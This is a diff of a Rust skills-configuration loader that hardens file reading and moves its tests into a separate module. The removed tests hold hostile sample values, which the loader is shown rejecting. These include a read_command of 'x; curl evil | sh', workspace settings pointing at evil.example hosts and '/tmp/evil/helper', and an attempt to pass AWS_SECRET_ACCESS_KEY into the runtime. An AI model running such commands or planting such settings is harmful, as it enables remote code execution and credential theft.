+            registry.catalog_url.get_or_insert_with(|| url.to_owned());
+        }
+        ("download_base_url", Some(url)) => {
+            registry
+                .download_base_url
+                .get_or_insert_with(|| url.to_owned());
+        }
+        ("url" | "download_base_url", None) => {
+            return Err(format!("'registry.{key}' must be a string"));
+        }
+        ("token_env", Some(name)) if is_variable(name) => {
+            registry.token_env = Some(name.to_owned());
+        }
+        ("token_env", _) => {
+            return Err(
                 "'registry.token_env' must name an environment variable (letters, digits, _)"
                     .to_owned(),
-            ),
-            ("max_catalog_bytes", _) if number.is_some() => {
-                registry.max_catalog_bytes = number;
-            }
-            ("max_catalog_entries", _) if number.is_some() => {
-                registry.max_catalog_entries = number.and_then(|n| usize::try_from(n).ok());
-            }
-            ("url" | "download_base_url", None) => {
-                problem(format!("'registry.{key}' must be a string"));
-            }
-            ("max_catalog_bytes" | "max_catalog_entries", _) => {
-                problem(format!("'registry.{key}' must be a positive number"));
-            }
-            (other, _) => problem(format!(
-                "unknown key 'registry.{other}'{}",
-                misplaced("registry", other)
-            )),
+            );
         }
+        ("max_catalog_bytes", _) if number.is_some() => registry.max_catalog_bytes = number,
+        ("max_catalog_entries", _) if number.is_some() => {
+            registry.max_catalog_entries = number.and_then(|n| usize::try_from(n).ok());
+        }
+        ("max_catalog_bytes" | "max_catalog_entries", _) => {
+            return Err(format!("'registry.{key}' must be a positive number"));
+        }
+        _ => return Err(format!("'registry.{key}' has no reader; this is a bug")),
     }
+    Ok(())
 }
 
 /// Whether `name` can be an environment variable's name.
@@ -471,20 +654,120 @@ pub(crate) fn is_command(command: &str) -> bool {
             .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '/' | '~'))
 }
 
-/// The file's text, `None` when it does not exist.
-fn read_small(file: &Path) -> Result<Option<String>, String> {
-    match std::fs::metadata(file) {
-        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(None),
-        Err(error) => return Err(format!("cannot be read: {error}")),
-        Ok(metadata) if !metadata.is_file() => return Err("is not a regular file".to_owned()),
-        Ok(metadata) if metadata.len() > MAX_CONFIG_BYTES => {
-            return Err(format!("is larger than {MAX_CONFIG_BYTES} bytes"));
+/// What reading a configuration file found.
+#[derive(Debug, PartialEq, Eq)]
+enum Read {
+    /// No file (nor a link) is there.
+    Absent,
+    /// Its text.
+    Text(String),
+    /// Something is there that cannot be read as the file, and why (a clause saying what to do).
+    Broken(String),
+}
+
+/// Reads a configuration file: never blocking on a FIFO or a device planted under its name,
+/// never more than [`MAX_CONFIG_BYTES`]. A link is followed (dotfile managers link this file),
+/// but a link to nowhere is a file the user wrote that cannot be read, not an absent one.
+fn read_config(path: &Path) -> Read {
+    use std::io::Read as _;
+    // The type is checked before the open, so no device is opened, and again on the open
+    // handle, so nothing swapped in between is read.
+    match std::fs::metadata(path) {
+        Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
+            return match std::fs::symlink_metadata(path) {
+                Ok(link) if link.is_symlink() => Read::Broken(format!(
+                    "it is a symbolic link to {}, which does not exist; point it at the file or remove it",
+                    std::fs::read_link(path)
+                        .map(|target| target.display().to_string())
+                        .unwrap_or_else(|_| "nothing".to_owned())
+                )),
+                _ => Read::Absent,
+            };
         }
+        // The app directory is a file: no configuration file can be below it.
+        Err(error) if is_not_a_directory(&error) => return Read::Absent,
+        Err(error) => return Read::Broken(cannot_open(&error)),
+        Ok(metadata) if !metadata.is_file() => return Read::Broken(not_a_file(&metadata)),
         Ok(_) => {}
     }
-    std::fs::read_to_string(file)
-        .map(Some)
-        .map_err(|error| format!("cannot be read as UTF-8 text: {error}"))
+    let file = match open_nonblocking(path) {
+        Ok(file) => file,
+        Err(error) => return Read::Broken(cannot_open(&error)),
+    };
+    let metadata = match file.metadata() {
+        Ok(metadata) if !metadata.is_file() => return Read::Broken(not_a_file(&metadata)),
+        Ok(metadata) => metadata,
+        Err(error) => return Read::Broken(cannot_open(&error)),
+    };
+    if metadata.len() > MAX_CONFIG_BYTES {
+        return Read::Broken(format!(
+            "it is {} bytes long, more than the {MAX_CONFIG_BYTES} allowed; shorten it",
+            metadata.len()
+        ));
+    }
+    let mut bytes = Vec::new();
+    if let Err(error) = file.take(MAX_CONFIG_BYTES + 1).read_to_end(&mut bytes) {
+        return Read::Broken(cannot_open(&error));
+    }
+    if bytes.len() as u64 > MAX_CONFIG_BYTES {
+        return Read::Broken(format!(
+            "it is longer than the {MAX_CONFIG_BYTES} bytes allowed; shorten it"
+        ));
+    }
+    match String::from_utf8(bytes) {
+        Ok(text) => Read::Text(text),
+        Err(error) => Read::Broken(format!(
+            "it is not UTF-8 text (an invalid byte at offset {}); save it as UTF-8",
+            error.utf8_error().valid_up_to()
+        )),
+    }
+}
+
+fn cannot_open(error: &std::io::Error) -> String {
+    format!("it cannot be read ({error}); make it readable by you (chmod u+r) or remove it")
+}
+
+fn not_a_file(metadata: &std::fs::Metadata) -> String {
+    format!(
+        "it is {}, not a regular file; remove it",
+        crate::fs::file_kind(metadata)
+    )
+}
+
+#[cfg(unix)]
+fn is_not_a_directory(error: &std::io::Error) -> bool {
+    error.raw_os_error() == Some(rustix::io::Errno::NOTDIR.raw_os_error())
+}
+
+#[cfg(not(unix))]
+fn is_not_a_directory(_error: &std::io::Error) -> bool {
+    false
+}
+
+/// Opens for reading without blocking on a FIFO and without taking a terminal.
+#[cfg(unix)]
+fn open_nonblocking(path: &Path) -> std::io::Result<std::fs::File> {
+    use rustix::fs::OFlags;
+    use std::os::unix::fs::OpenOptionsExt as _;
+    std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags((OFlags::NONBLOCK | OFlags::NOCTTY).bits() as i32)
+        .open(path)
+}
+
+#[cfg(not(unix))]
+fn open_nonblocking(path: &Path) -> std::io::Result<std::fs::File> {
+    std::fs::File::open(path)
+}
+
+/// The 1-based line of the byte `offset` of `text`.
+fn line_of(text: &str, offset: usize) -> usize {
+    text.as_bytes()
+        .iter()
+        .take(offset)
+        .filter(|&&byte| byte == b'\n')
+        .count()
+        + 1
 }
 
 fn strings(value: &toml::Value) -> Option<Vec<String>> {
@@ -516,276 +799,4 @@ fn resolve(path: &str, base: &Path, home: &Path) -> PathBuf {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn write(base: &Path, text: &str) {
-        let dir = base.join(".openhuman");
-        std::fs::create_dir_all(&dir).unwrap();
-        std::fs::write(dir.join(CONFIG_FILE), text).unwrap();
-    }
-
-    #[test]
-    fn files_layer_in_order() {
-        let home = tempfile::tempdir().unwrap();
-        let workspace = tempfile::tempdir().unwrap();
-        write(
-            home.path(),
-            "paths = ['~/shared', 'team']\ndisabled = ['old']\n[permissions]\n'*' = 'ask'\n[catalog]\nbudget_chars = 100\n",
-        );
-        write(
-            workspace.path(),
-            "disabled = ['legacy']\n[permissions]\n'pdf' = 'deny'\n[catalog]\nbudget_chars = 50\n",
-        );
-        let config = SkillsConfig::new(workspace.path(), home.path());
-
-        let (untrusted, diagnostics) = effective(&config, false);
-        assert!(diagnostics.is_empty(), "{diagnostics:?}");
-        assert_eq!(
-            untrusted.extra_roots,
-            [home.path().join("shared"), home.path().join("team")]
-        );
-        assert_eq!(untrusted.disabled, ["old"]);
-        assert_eq!(untrusted.budget_chars, Some(100));
-
-        let (trusted, _) = effective(&config, true);
-        assert_eq!(trusted.disabled, ["old", "legacy"]);
-        assert_eq!(trusted.budget_chars, Some(50));
-        let patterns: Vec<&str> = trusted
-            .permissions
-            .iter()
-            .map(|rule| rule.pattern.as_str())
-            .collect();
-        assert_eq!(patterns, ["*", "pdf"]);
-    }
-
-    #[test]
-    fn malformed_keys_are_reported_and_ignored() {
-        let home = tempfile::tempdir().unwrap();
-        write(
-            home.path(),
-            "paths = 'not-a-list'\ncolour = true\n[permissions]\nx = 'maybe'\ny = 'deny'\n",
-        );
-        let config = SkillsConfig::new(home.path(), home.path());
-        let (merged, diagnostics) = effective(&config, false);
-        assert_eq!(diagnostics.len(), 3, "{diagnostics:?}");
-        assert!(
-            diagnostics
-                .iter()
-                .all(|d| d.code == DiagnosticCode::InvalidConfig)
-        );
-        assert_eq!(merged.permissions.len(), 1);
-
-        write(home.path(), "this is = not toml = at all\n");
-        let (_, diagnostics) = effective(&config, false);
-        assert_eq!(diagnostics.len(), 1);
-        assert!(diagnostics[0].message.starts_with("not valid TOML"));
-    }
-
-    #[test]
-    fn registry_and_github_come_from_the_home_file_only_and_the_caller_wins() {
-        let home = tempfile::tempdir().unwrap();
-        let workspace = tempfile::tempdir().unwrap();
-        write(
-            home.path(),
-            "[registry]\nkind = 'clawhub'\nurl = 'https://hub.example'\ntoken_env = 'HUB_TOKEN'\n\
-             max_catalog_bytes = 1000\nmax_catalog_entries = 10\n[github]\nurl = 'https://ghe.example'\n",
-        );
-        write(
-            workspace.path(),
-            "[registry]\nurl = 'https://evil.example'\n[github]\nurl = 'https://evil.example'\n",
-        );
-        let config = SkillsConfig::new(workspace.path(), home.path());
-        let (merged, diagnostics) = effective(&config, true);
-        assert_eq!(merged.registry.kind, RegistryKind::Clawhub);
-        assert_eq!(
-            merged.registry.catalog_url.as_deref(),
-            Some("https://hub.example")
-        );
-        assert_eq!(merged.registry.token_env.as_deref(), Some("HUB_TOKEN"));
-        assert_eq!(merged.registry.max_catalog_bytes, Some(1000));
-        assert_eq!(merged.registry.max_catalog_entries, Some(10));
-        assert_eq!(merged.github.url.as_deref(), Some("https://ghe.example"));
-        assert_eq!(diagnostics.len(), 2, "{diagnostics:?}");
-        assert!(
-            diagnostics
-                .iter()
-                .all(|d| d.message.contains("only from the home"))
-        );
-
-        let mut set = SkillsConfig::new(workspace.path(), home.path());
-        set.registry.catalog_url = Some("https://env.example".to_owned());
-        set.github.url = Some("https://env.example".to_owned());
-        let (merged, _) = effective(&set, false);
-        assert_eq!(
-            merged.registry.catalog_url.as_deref(),
-            Some("https://env.example")
-        );
-        assert_eq!(merged.github.url.as_deref(), Some("https://env.example"));
-
-        write(
-            home.path(),
-            "[registry]\nkind = 'npm'\ntoken_env = 'A B'\nmax_catalog_bytes = -1\nurl = 3\n",
-        );
-        let (_, diagnostics) = effective(&config, false);
-        assert_eq!(diagnostics.len(), 4, "{diagnostics:?}");
-    }
-
-    #[test]
-    fn runtime_keys_come_from_home_and_a_workspace_may_only_tighten_them() {
-        let home = tempfile::tempdir().unwrap();
-        let workspace = tempfile::tempdir().unwrap();
-        write(
-            home.path(),
-            "[runtime]\npass_env = ['GITHUB_TOKEN', 'NPM_TOKEN']\nsandbox = 'workspace-write'\n\
-             network = 'allow'\nallow_inline = true\nconfirm = 'never'\nnode = '/opt/node/bin/node'\n\
-             managed_node = '22'\nnode_dist = 'https://mirror.example/node'\nmax_concurrent_runs = 8\n\
-             sandbox_helper = '/opt/skills/bin/skills'\n",
-        );
-        let config = SkillsConfig::new(workspace.path(), home.path());
-        let (home_only, diagnostics) = effective(&config, false);
-        assert!(diagnostics.is_empty(), "{diagnostics:?}");
-        let runtime = &home_only.runtime;
-        assert_eq!(runtime.pass_env, ["GITHUB_TOKEN", "NPM_TOKEN"]);
-        assert_eq!(runtime.network, NetworkMode::Allow);
-        assert!(runtime.allow_inline);
-        assert_eq!(runtime.confirm, ConfirmMode::Never);
-        assert_eq!(
-            runtime.node.as_deref(),
-            Some(Path::new("/opt/node/bin/node"))
-        );
-        assert_eq!(runtime.managed_node.as_deref(), Some("22"));
-        assert_eq!(
-            runtime.node_dist.as_deref(),
-            Some("https://mirror.example/node")
-        );
-        assert_eq!(runtime.max_concurrent_runs, 8);
-        assert_eq!(
-            runtime.sandbox_helper.as_deref(),
-            Some(Path::new("/opt/skills/bin/skills"))
-        );
-
-        // Tightening applies without a word.
-        write(
-            workspace.path(),
-            "[runtime]\npass_env = ['NPM_TOKEN']\nsandbox = 'read-only'\nnetwork = 'deny'\n\
-             allow_inline = false\nconfirm = 'always'\nmax_concurrent_runs = 2\n",
-        );
-        let (tightened, diagnostics) = effective(&config, true);
-        assert!(diagnostics.is_empty(), "{diagnostics:?}");
-        let runtime = &tightened.runtime;
-        assert_eq!(runtime.pass_env, ["NPM_TOKEN"]);
-        assert_eq!(runtime.sandbox, SandboxMode::ReadOnly);
-        assert_eq!(runtime.network, NetworkMode::Deny);
-        assert!(!runtime.allow_inline);
-        assert_eq!(runtime.confirm, ConfirmMode::Always);
-        assert_eq!(runtime.max_concurrent_runs, 2);
-
-        // Loosening is said key by key and changes nothing.
-        write(home.path(), "[runtime]\npass_env = ['GITHUB_TOKEN']\n");
-        write(
-            workspace.path(),
-            "[runtime]\npass_env = ['AWS_SECRET_ACCESS_KEY']\nsandbox = 'off'\nnetwork = 'allow'\n\
-             allow_inline = true\nallow_install_scripts = true\nconfirm = 'never'\n\
-             python = './evil/python'\nmanaged_node = '22'\nnode_dist = 'http://evil.example'\n\
-             max_runs_per_minute = 1000\nsandbox_helper = '/tmp/evil/helper'\n",
-        );
-        let (kept, diagnostics) = effective(&config, true);
-        assert_eq!(
-            kept.runtime.pass_env,
-            Vec::<String>::new(),
-            "not even the home's one"
-        );
-        assert_eq!(kept.runtime, RuntimeConfig::default());
-        assert_eq!(diagnostics.len(), 11, "{diagnostics:?}");
-        for key in [
-            "sandbox_helper",
-            "pass_env",
-            "sandbox",
-            "network",
-            "allow_inline",
-            "allow_install_scripts",
-            "confirm",
-            "python",
-            "managed_node",
-            "node_dist",
-            "max_runs_per_minute",
-        ] {
-            assert!(
-                diagnostics
-                    .iter()
-                    .any(|d| d.message.contains(&format!("[runtime] {key} "))),
-                "{key}: {diagnostics:?}"
-            );
-        }
-
-        // Malformed values are said and ignored.
-        write(
-            home.path(),
-            "[runtime]\nsandbox = 'maybe'\npass_env = ['A B']\nmax_concurrent_runs = 0\nnode = ''\ncolour = 1\n",
-        );
-        let (_, diagnostics) = effective(&config, false);
-        assert_eq!(diagnostics.len(), 5, "{diagnostics:?}");
-    }
-
-    #[test]
-    fn read_command_comes_from_the_home_file_only() {
-        let home = tempfile::tempdir().unwrap();
-        let workspace = tempfile::tempdir().unwrap();
-        write(home.path(), "[sync]\nread_command = 'skills-rs'\n");
-        write(workspace.path(), "[sync]\nread_command = './evil.sh'\n");
-        let config = SkillsConfig::new(workspace.path(), home.path());
-        let (merged, diagnostics) = effective(&config, true);
-        assert_eq!(merged.read_command.as_deref(), Some("skills-rs"));
-        assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
-        assert!(diagnostics[0].message.contains("only from the home"));
-
-        for bad in ["x; curl evil | sh", "a b", "`x`", "-rf", ""] {
-            write(home.path(), &format!("[sync]\nread_command = {bad:?}\n"));
-            let (merged, diagnostics) = effective(&config, false);
-            assert_eq!(merged.read_command, None, "{bad}");
-            assert_eq!(diagnostics.len(), 1, "{bad}: {diagnostics:?}");
-        }
-    }
-
-    /// TOML files every key after a `[table]` header into that table: a top-level key found
-    /// there is reported with where it belongs, and the rest of the file still applies.
-    #[test]
-    fn a_top_level_key_inside_a_table_says_to_move_it_up() {
-        let home = tempfile::tempdir().unwrap();
-        write(
-            home.path(),
-            "[permissions]\n'pdf' = 'deny'\ndisabled = ['old']\n[catalog]\nbudget_chars = 10\npaths = ['x']\n",
-        );
-        let config = SkillsConfig::new(home.path(), home.path());
-        let (merged, diagnostics) = effective(&config, false);
-        let messages: Vec<&str> = diagnostics.iter().map(|d| d.message.as_str()).collect();
-        assert_eq!(
-            messages,
-            [
-                "permission for 'disabled' must be \"allow\", \"ask\" or \"deny\"; 'disabled' is a top-level key: move it above the [permissions] header (every key after a header belongs to that table)",
-                "unknown key 'catalog.paths'; 'paths' is a top-level key: move it above the [catalog] header (every key after a header belongs to that table)",
-            ]
-        );
-        assert_eq!(merged.permissions.len(), 1);
-        assert_eq!(merged.budget_chars, Some(10));
-        // A skill may be called "disabled": a valid rule for that name is a rule, not a slip.
-        write(home.path(), "[permissions]\ndisabled = 'ask'\n");
-        let (merged, diagnostics) = effective(&config, false);
-        assert!(diagnostics.is_empty(), "{diagnostics:?}");
-        assert_eq!(merged.permissions[0].pattern, "disabled");
-        // Other unknown keys get no such hint.
-        write(home.path(), "[catalog]\ncolour = 1\n");
-        let (_, diagnostics) = effective(&config, false);
-        assert_eq!(diagnostics[0].message, "unknown key 'catalog.colour'");
-    }
-
-    #[test]
-    fn files_can_be_turned_off() {
-        let home = tempfile::tempdir().unwrap();
-        write(home.path(), "disabled = ['x']\n");
-        let mut config = SkillsConfig::new(home.path(), home.path());
-        config.read_config_files = false;
-        assert!(effective(&config, true).0.disabled.is_empty());
-    }
-}
+mod tests;
